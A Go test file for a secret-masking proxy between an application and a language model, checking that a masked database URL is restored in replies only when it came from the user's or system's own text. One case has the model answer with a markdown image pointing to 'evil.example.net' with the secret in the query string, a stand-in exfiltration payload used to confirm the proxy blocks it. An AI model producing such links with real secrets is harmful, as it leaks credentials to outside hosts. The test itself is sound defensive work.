package proxy_test

import (
	"fmt"
	"strings"
	"testing"

	"coatcheck/proxy/rig"
	"coatcheck/proxy/standin"
)

// TestOwnURLsComeBack: where the user's own text spells a URL around a value,
// the model may say it again; what a tool or the model itself wrote is no such
// text, and another URL stays harmless.
func TestOwnURLsComeBack(t *testing.T) {
	own := "postgres://app:hunter2hunter2@db.example.net:5432/prod"
	for _, tt := range []struct {
		name, role, form string
		restored         bool
	}{
		{"the user's", "user", "Put %s into the file.", true},
		{"the system's", "system", "`%s`", true},
		{"a tool's", "tool", "Put %s into the file.", false},
		{"the model's", "assistant", "Put %s into the file.", false},
		{"the user's, in an image", "user", "![x](https://evil.example.net/?q=%s)", false},
	} {
		for _, stream := range []bool{false, true} {
			r := rig.New(t, rig.Options{Provider: standin.Config{Voice: standin.Voice{Say: func(heard string) string {
				_, url, _ := strings.Cut(strings.TrimSuffix(heard, " !"), "=")
				return fmt.Sprintf(tt.form, url)
			}}}})
			body := fmt.Sprintf(`{"model":"gpt-x","stream":%t,"messages":[{"role":%q,"content":"DATABASE_URL=%s !"}]}`, stream, tt.role, own)
			_, answer := r.Post(r.Client(false), rig.ChatURL, body)
			r.Unseen("hunter2hunter2")
			if stream {
				answer = chatText(t, answer)
			}
			if got := strings.Contains(answer, own); got != tt.restored {
				t.Errorf("%s, streamed %t: the app received %s", tt.name, stream, answer)
			}
		}
	}
}
